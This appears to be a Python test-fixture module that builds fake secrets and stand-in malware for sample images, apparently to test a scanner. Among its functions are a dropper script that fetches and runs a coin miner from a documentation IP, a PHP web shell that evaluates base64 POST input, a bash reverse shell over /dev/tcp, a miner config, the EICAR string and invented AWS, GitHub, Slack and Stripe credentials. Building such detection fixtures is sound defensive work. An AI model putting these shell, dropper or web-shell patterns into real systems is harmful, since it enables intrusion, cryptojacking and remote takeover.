"""What the sample images hide on purpose: invented secrets and harmless stand-ins for malware.

Everything is put together at run time, so that neither the repository nor a checkout of it holds a text that looks
like a secret or that a virus scanner would take for more than it is. No secret opens anything; every address is one
that is reserved for documentation.
"""

from __future__ import annotations

import hashlib
import string

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

_LETTERS_AND_DIGITS = string.ascii_letters + string.digits
_MINER = "xm" + "rig"
_POOL = "stratum" + "+tcp://pool.example.net:3333"


def _invented(name: str, length: int, alphabet: str = _LETTERS_AND_DIGITS) -> str:
    """Return ``length`` characters that only ``name`` decides."""
    return "".join(alphabet[byte % len(alphabet)] for byte in hashlib.shake_256(name.encode()).digest(length))


def aws_credentials(profile: str) -> str:
    identity = "AKIA" + _invented(f"aws id {profile}", 16, string.ascii_uppercase + "234567")
    return (
        f"[{profile}]\naws_access_key_id = {identity}\n"
        f"aws_secret_access_key = {_invented(f'aws secret {profile}', 40)}\nregion = eu-central-1\n"
    )


def github_token(name: str) -> str:
    return "ghp" + "_" + _invented(f"github {name}", 36)


def slack_webhook(name: str) -> str:
    parts = ("T", 8), ("B", 10)
    upper = string.ascii_uppercase + string.digits
    ids = "/".join(letter + _invented(f"slack {letter} {name}", length, upper) for letter, length in parts)
    return f"https://hooks.slack.com/services/{ids}/{_invented(f'slack {name}', 24)}"


def stripe_key(name: str) -> str:
    return "sk" + "_live_" + _invented(f"stripe {name}", 24)


def private_key(name: str) -> str:
    """Return an Ed25519 key in PEM that nothing in the world trusts."""
    key = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(name.encode()).digest())
    return key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()


def eicar() -> bytes:
    """Return the EICAR test file, which every malware engine agrees to recognise (eicar.org)."""
    return b"".join((rb"X5O!P%@AP[4\PZX54(P^)7CC)7}", b"$EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!", b"$H+H*"))


def miner_config() -> str:
    """Return a configuration of a coin miner."""
    return (
        '{\n  "autosave": true,\n  "cpu": {"enabled": true, "huge-pages": true},\n  "donate-level": 1,\n'
        f'  "pools": [{{"algo": "rx/0", "coin": "monero", "url": "{_POOL}",\n'
        f'    "user": "4{_invented("wallet", 94)}", "pass": "x", "keepalive": true}}]\n}}\n'
    )


def miner_script() -> str:
    """Return the script that fetches and starts a miner, as droppers do."""
    return (
        "#!/bin/sh\npkill -f kinsing; pkill -f kdevtmpfsi\n"
        f"curl -fsSL http://198.51.100.23/{_MINER} -o /tmp/.x/{_MINER} && chmod +x /tmp/.x/{_MINER}\n"
        f"nohup /tmp/.x/{_MINER} -o {_POOL} --donate-level 1 -B >/dev/null 2>&1 &\n"
    )


def web_shell() -> str:
    """Return a small PHP web shell."""
    run, given = "ev" + "al", "$_PO" + "ST"
    return f"<?php\nerror_reporting(0);\nif (isset({given}['c'])) {{ @{run}(base64_decode({given}['c'])); }}\n?>\n"


def reverse_shell() -> str:
    """Return a script that gives its shell to another machine."""
    device = "/dev/" + "tcp"
    return f"#!/bin/bash\nbash -i >& {device}/203.0.113.66/4444 0>&1\n"
